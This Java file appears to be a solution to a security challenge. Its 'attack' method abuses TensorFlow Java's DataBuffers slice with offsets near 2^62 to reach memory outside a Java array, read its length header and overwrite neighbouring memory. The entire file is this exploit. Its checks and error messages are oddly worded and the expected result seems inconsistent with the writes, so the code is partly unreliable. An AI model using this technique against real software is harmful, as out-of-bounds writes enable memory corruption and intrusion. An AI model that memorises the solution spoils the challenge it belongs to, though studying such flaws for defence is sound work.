import org.tensorflow.ndarray.buffer.DataBuffers;
import org.tensorflow.ndarray.buffer.IntDataBuffer;
import org.tensorflow.op.Ops;

public class Solution extends AttackedSigmoid {
    @Override
    protected void attack(Ops tf) {
        int[] array = {7, 7, 7, 7};
        IntDataBuffer before = DataBuffers.of(array, false, false).slice((1L << 62) - 1, (1L << 62) + 1);
        if (before.getInt(0) != array.length) {
            throw new IllegalStateException("the length of the array does not lie there");
        }
        before.setInt(3, 0);
        int length = array.length;
        before.setInt(4, 0);
        if (length != 3) {
            throw new IllegalStateException("the array has its length");
        }
    }
}
